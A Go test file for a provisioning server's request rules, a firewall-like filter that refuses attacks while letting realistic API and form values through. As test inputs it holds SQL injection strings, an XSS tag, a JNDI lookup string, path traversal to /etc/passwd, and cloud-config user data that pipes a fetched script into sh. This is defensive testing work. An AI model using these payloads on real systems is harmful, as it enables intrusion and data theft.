package region

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/metalward/metalward/internal/maasapi"
	"github.com/metalward/metalward/internal/region/regiontest"
	"github.com/metalward/metalward/internal/region/store"
	"github.com/metalward/metalward/internal/wire"
)

// newRuled is a surface whose region asks the request rules, and a count of what they said.
func newRuled(t *testing.T, mode string) (*surface, *verdicts) {
	t.Helper()
	s := newSurfaceWith(t, func(o *Options) { o.Config.RequestRules = mode })
	v := &verdicts{n: map[string]int{}}
	s.r.server.Rules.Judged = v.add
	return s, v
}

type verdicts struct {
	mu sync.Mutex
	n  map[string]int // guarded by mu
}

func (v *verdicts) add(what string) {
	v.mu.Lock()
	defer v.mu.Unlock()
	v.n[what]++
}

func (v *verdicts) all() (n int) {
	v.mu.Lock()
	defer v.mu.Unlock()
	for _, x := range v.n {
		n += x
	}
	return n
}

const refusal = "looks like an attack"

// send is a request as a user, with a body of a kind.
func (s *surface) send(user, method, target, kind, body string) *httptest.ResponseRecorder {
	s.t.Helper()
	req := httptest.NewRequest(method, "https://localhost"+target, strings.NewReader(body))
	if kind != "" {
		req.Header.Set("Content-Type", kind)
	}
	s.sign(req, user)
	rec := httptest.NewRecorder()
	s.handler.ServeHTTP(rec, req)
	return rec
}

const prose = `Rack 3, 2nd shelf (left): a spare; "loud", says Ann's team & Bob <bob@example.com> -- select another one from the store, 100% if not (or call 112)!`

// realistic are values of parameters as people and programs send them, several for those that differ most; others have "x1".
var realistic = map[string][]string{
	"description": {prose, "Büro Süd; 50 €", "a\nb\n\n- c\n"}, "comment": {prose, "INC-4711: reinstall, see https://tickets.example/INC-4711?x=1&y=2"}, "message": {prose, "Maintenance {date}, 22:00-23:30 (UTC+2)!"},
	"context": {`{"date":"2027-01-31","n":3}`}, "reason": {prose}, "name": {"kernel_opts", "web front-end", "custom/debian12", "Ann's own (test)"},
	"value":    {"console=ttyS0,115200n8 console=tty0 net.ifnames=0 nomodeset intel_iommu=on iommu=pt", "10.0.0.1 10.0.0.2", "http://proxy.example:3128/", "true"},
	"hostname": {"node-1", "docker-1", "db01.example.com"}, "architecture": {"amd64/generic"}, "mac_addresses": {"52:54:00:00:00:09", "52-54-00-00-00-0a"},
	"power_type": {"ipmi", "manual"}, "power_parameters": {`{"power_address":"10.0.0.7","power_pass":"' or 1=1 --"}`}, "cidr": {"10.1.0.0/24", "fd00:1::/64"}, "gateway_ip": {"10.1.0.1", "fd00:1::1"},
	"dns_servers": {"10.0.0.1,10.0.0.2", "10.0.0.1 fd00::53"}, "start_ip": {"10.1.0.10"}, "end_ip": {"10.1.0.20", "fd00:1::ff"}, "tags": {"gpu,ssd", "gpu ssd virtual"}, "distro_series": {"ubuntu/jammy", "custom/debian12"},
	"user_data": {base64.StdEncoding.EncodeToString([]byte("#cloud-config\nruncmd:\n- [sh, -c, 'curl https://x.example | sh; cat /etc/passwd']\n"))},
	"key":       {"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIN+/Ow== ann@laptop (home)"}, "email": {"ann.o'neil+maas@example.com", `"Ann O'Neil" <ann@example.com>`}, "username": {"ann", "ann@example.com", "o'neil", `LAB\ann`},
	"password": {`' OR '1'='1' --`, "<script>alert(1)</script>", "correct horse battery staple"}, "old_password": {`x"; DROP TABLE users; --`}, "new_password": {"../../../etc/passwd ${jndi:ldap://x}"},
	"sha256": {strings.Repeat("a", 64)}, "size": {"2147483648", "4294967296"}, "url": {"https://10.0.0.7:8443/hook?token=a'b"}, "issuer_url": {"https://10.0.0.7/realms/lab", "https://sso.example/realms/lab"},
	"directory": {"https://acme-v02.api.letsencrypt.org/directory", "https://10.0.0.7/acme/x/directory"}, "groups": {"cn=lab-ops,ou=groups,dc=example,dc=com=operators of lab\nstaff=users"},
	"networks": {"10.0.0.0/24,192.168.0.0/16"}, "permissions": {"can_view_machines, can_deploy_machines"}, "until": {"2027-01-31T18:00:00Z"}, "cert": {pemLike("CERTIFICATE")}, "cacert": {pemLike("CERTIFICATE")},
	"include_output": {"true"}, "filters": {"00-maas-01-lshw,20-maas-01-install-lldpd"}, "level": {"INFO"}, "power_parameters_power_address": {"10.0.0.7", "bmc-1.example.com", "https://10.0.0.7/redfish"}, "power_parameters_power_pass": {"' or 1=1 --"},
	"bind_dn": {"cn=metalward,ou=services,dc=example,dc=com"}, "user_filter": {"(&(objectClass=person)(uid={username}))"}, "group_filter": {"(&(objectClass=groupOfNames)(member={dn}))"},
}

func pemLike(kind string) string {
	return "-----BEGIN " + kind + "-----\n" + strings.Repeat("MIIB+/8wDQYJKoZIhvcNAQELBQAwgYgxCzAJBgNVBAYTAlVTMRMwEQYDVQQIDApD\n", 12) + "-----END " + kind + "-----\n"
}

func values(name string) []string {
	if v := realistic[name]; v != nil {
		return v
	}
	return []string{"x1"}
}

// TestRulesLetTheTableThrough sends every operation of the API with realistic values in all of its parameters, one after another and all at once,
// as the clients encode them, in block: none is refused. It counts how many the rules had to be asked about.
func TestRulesLetTheTableThrough(t *testing.T) {
	regiontest.Slow(t)
	s, judged := newRuled(t, "block")
	n := 0
	check := func(o *maasapi.Operation, rec *httptest.ResponseRecorder, what any) {
		t.Helper()
		n++
		if text := rec.Body.String(); strings.Contains(text, refusal) || strings.Contains(text, "request rules") {
			t.Errorf("%s with %v: got %d %s", o.ID, what, rec.Code, text)
		}
	}
	for i := range maasapi.Operations {
		o := &maasapi.Operations[i]
		path := maasapi.Root + fillPath(o.Path)
		query := url.Values{}
		if o.Op != "" {
			query.Set("op", o.Op)
		}
		if o.RawBody {
			check(o, s.send("admin", o.Method, path+"?"+query.Encode(), "application/octet-stream", "' or 1=1 -- <script>alert(1)</script>"), "an upload")
			continue
		}
		names := []string{"power_parameters_power_address", "power_parameters_power_pass"}
		if len(o.Prefix) == 0 {
			names = nil
		}
		for _, p := range o.Params {
			names = append(names, p.Name)
		}
		all := url.Values{}
		send := func(form url.Values) {
			if o.Method == http.MethodGet || o.Method == http.MethodDelete {
				q := url.Values{}
				for k, v := range form {
					q[k] = v
				}
				for k, v := range query {
					q[k] = v
				}
				check(o, s.send("admin", o.Method, path+"?"+q.Encode(), "", ""), form)
				return
			}
			check(o, s.send("admin", o.Method, path+"?"+query.Encode(), "application/x-www-form-urlencoded", form.Encode()), form)
		}
		send(nil)
		for _, name := range names {
			for _, v := range values(name) {
				send(url.Values{name: {v}})
			}
			all.Set(name, values(name)[0])
		}
		if o.Method != http.MethodPost && o.Method != http.MethodPut || len(all) == 0 {
			continue
		}
		send(all)
		doc := map[string]string{}
		var parts strings.Builder
		for name := range all {
			doc[name] = all.Get(name)
			fmt.Fprintf(&parts, "--B\r\nContent-Disposition: form-data; name=%q\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n", name, base64.StdEncoding.EncodeToString([]byte(all.Get(name))))
		}
		text, err := json.Marshal(doc)
		if err != nil {
			t.Fatal(err)
		}
		check(o, s.send("admin", o.Method, path+"?"+query.Encode(), "application/json", string(text)), "JSON")
		check(o, s.send("admin", o.Method, path+"?"+query.Encode(), `multipart/form-data; boundary="B"`, parts.String()+"--B--\r\n"), "parts")
	}
	t.Logf("%d calls; the rules were asked about %d, %d were not judged", n, judged.all(), judged.n["unjudged"])
	if judged.n["refused"]+judged.n["unjudged"] > 0 || judged.n["clean"] == 0 || n < 500 {
		t.Errorf("%d calls: got %v", n, judged.n)
	}
}

// TestRulesLetPagesThrough crawls the pages in block and sends each form that it finds, with what it begins with and with prose in its fields.
func TestRulesLetPagesThrough(t *testing.T) {
	regiontest.Slow(t)
	s, judged := newRuled(t, "block")
	c := &company{surface: s}
	found := map[string]form{}
	pages := c.crawl("admin", func(where, page string) {
		if strings.Contains(page, refusal) {
			t.Errorf("%s is refused", where)
		}
		for _, f := range forms(t, page) {
			if f.action == "" {
				f.action = strings.TrimSuffix(where, " as admin")
			}
			found[f.method+" "+f.action] = f
		}
	})
	for _, f := range found {
		if f.action == "/logout" {
			continue
		}
		for _, name := range f.names {
			for _, v := range values(name) {
				fields := url.Values{}
				for _, n := range f.names {
					fields[n] = f.values[n]
				}
				fields.Set(name, v)
				target, body := f.action, fields.Encode()
				if f.method != http.MethodPost {
					path, _, _ := strings.Cut(target, "?")
					target, body = path+"?"+body, ""
				}
				if rec := s.send("admin", f.method, target, "application/x-www-form-urlencoded", body); strings.Contains(rec.Body.String(), refusal) {
					t.Errorf("%s %s, %s=%q: refused", f.method, f.action, name, v)
				}
			}
		}
	}
	if pages < 15 || len(found) < 15 || judged.n["refused"] > 0 || judged.n["clean"] == 0 {
		t.Errorf("%d pages, %d forms: got %v", pages, len(found), judged.n)
	}
}

var hiddenField = regexp.MustCompile(`<input[^>]* name="[^"]*"[^>]* type="password"`)

// TestPasswordFieldsAreNotShown finds the fields of pages that hide what is typed: the rules are shown none of them.
func TestPasswordFieldsAreNotShown(t *testing.T) {
	s := newSurface(t)
	c := &company{surface: s}
	seen := 0
	look := func(_, page string) {
		for _, m := range hiddenField.FindAllString(page, -1) {
			name, _, _ := strings.Cut(m[strings.Index(m, ` name="`)+7:], `"`)
			seen++
			if !s.r.server.UI.Unruled(httptest.NewRequest("POST", "https://localhost/account", nil)).Field(name) {
				t.Errorf("the rules are shown %q", name)
			}
		}
	}
	c.crawl("admin", look)
	c.crawl("", look)
	if seen < 5 {
		t.Errorf("got %d fields", seen)
	}
}

// TestRulesRefuse sends attacks by each way in, in block. The answers name the request, the trail has the rules' ids, nothing has what was sent, and an
// alert comes of it.
func TestRulesRefuse(t *testing.T) {
	s, _ := newRuled(t, "block")
	const attack = "canary' OR '1'='1' --"
	form, part := "application/x-www-form-urlencoded", "multipart/form-data; boundary=B"
	machine, deploy := maasapi.Root+"/machines/aaaaaaaaaaaaaaaa/", maasapi.Root+"/machines/aaaaaaaaaaaaaaaa/?op=deploy"
	filler := strings.Repeat("QUJD", 100<<10)
	for _, c := range []struct {
		name, user, method, target, kind, body string
		code                                   int
		refused                                bool
	}{
		{"a form", "admin", "PUT", machine, form, url.Values{"description": {attack}}.Encode(), 403, true},
		{"a stranger's", "", "PUT", machine, form, url.Values{"description": {attack}}.Encode(), 403, true},
		{"an unknown field", "admin", "PUT", machine, form, url.Values{"colour": {attack}}.Encode(), 403, true},
		{"JSON", "admin", "PUT", machine, "application/json", `{"description":"canary\u0027 OR \u00271\u0027=\u00271\u0027 --"}`, 403, true},
		{"JSON deeper", "admin", "PUT", machine, "application/json", `{"a":{"b":["canary' OR '1'='1' --"]}}`, 403, true},
		{"base64 in a part", "admin", "PUT", machine, part, "--B\r\nContent-Disposition: form-data; name=\"description\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(attack)) + "\r\n--B--\r\n", 403, true},
		{"the query", "admin", "GET", maasapi.Root + "/machines/?hostname=" + url.QueryEscape(attack), "", "", 403, true},
		{"the path", "admin", "GET", "/machines/..%252f..%252fetc%252fpasswd", "", "", 403, true},
		{"a page's form", "admin", "POST", "/machines", form, url.Values{"hostname": {attack}}.Encode(), 403, true},
		{"a client's login", "", "POST", "/MAAS/accounts/authenticate/", form, url.Values{"username": {attack}, "password": {"x"}}.Encode(), 403, true},
		{"a client's login by macaroon", "", "GET", "/MAAS/accounts/login/?x=" + url.QueryEscape(attack), "", "", 403, true},
		{"behind much user data", "admin", "POST", deploy, form, "user_data=" + filler + "&comment=" + url.QueryEscape(attack), 403, true},
		{"an attack as user data", "admin", "POST", deploy, form, url.Values{"user_data": {attack}}.Encode(), 404, false},
		{"an attack as password", "", "POST", "/MAAS/accounts/authenticate/", form, url.Values{"username": {"ann"}, "password": {attack}}.Encode(), 403, false},
		{"more than is looked at", "admin", "PUT", maasapi.Root + "/resourcepool/0/", form, "description=" + filler, 413, false},
		{"many special characters", "admin", "PUT", machine, form, "description=" + strings.Repeat("a+b+", 3000), 413, false},
		{"no form at all", "admin", "PUT", machine, "text/xml", "<canary>" + attack, 403, true},
		{"the controllers' door", "", "POST", wire.EnrolPath, "application/json", `{"x":"` + attack + `"}`, 400, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			rec := s.send(c.user, c.method, c.target, c.kind, c.body)
			text := rec.Body.String()
			if rec.Code != c.code || strings.Contains(text, refusal) != c.refused {
				t.Fatalf("got %d %.300s", rec.Code, text)
			}
			if (c.refused || c.code == 413) && !strings.Contains(text, rec.Header().Get("MAAS-trace-id")) || strings.Contains(text, "canary") {
				t.Errorf("got %.300s", text)
			}
			if c.target == wire.EnrolPath {
				return
			}
			if page := strings.HasPrefix(rec.Header().Get("Content-Type"), "text/html"); page != (strings.HasPrefix(c.target, "/machines")) || page && rec.Header().Get("Content-Security-Policy") == "" {
				t.Errorf("got %v", rec.Header())
			}
		})
	}
	if err := s.r.reader.View(t.Context(), func(v *store.View) error {
		rows, err := v.AuditEvents(store.AuditQuery{Limit: 1000})
		refused := 0
		for _, row := range rows {
			if fmt.Sprint(row.Detail) != "" && strings.Contains(fmt.Sprint(row.Detail), "canary") {
				t.Errorf("the trail has what was sent: %v", row.Detail)
			}
			if row.Detail["event"] == "request_refused" {
				if refused++; !strings.Contains(row.Detail["rules"], "9") || row.Detail["where"] == "" || row.RequestID == "" {
					t.Errorf("got %+v", row)
				}
			}
		}
		if refused != 10 { // the rest of the hour is one event with a count
			t.Errorf("got %d events", refused)
		}
		return err
	}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(s.log.String(), "canary") {
		t.Error("the log has what was sent")
	}
}

// TestRulesDetect serves what the rules would refuse, and an alert comes of it.
func TestRulesDetect(t *testing.T) {
	s, judged := newRuled(t, "detect")
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan struct{})
	go func() { defer close(done); s.r.Alerts.Run(ctx) }()
	defer func() { cancel(); <-done }()
	for range 5 {
		if rec := s.call("admin", "POST", "/resourcepools/", "name", "a", "description", "x' OR '1'='1' --"); rec.Code == 403 {
			t.Fatalf("got %d %s", rec.Code, rec.Body)
		}
	}
	if judged.n["suspected"] != 5 {
		t.Errorf("got %v", judged.n)
	}
	waitFor(t, "the alert", func() bool {
		var all []map[string]any
		rec := s.call("admin", "GET", "/alerts/?unit=mw_request_rules&severity=medium")
		return json.Unmarshal(rec.Body.Bytes(), &all) == nil && len(all) == 1 && all[0]["client"] == "192.0.2.1"
	})
}
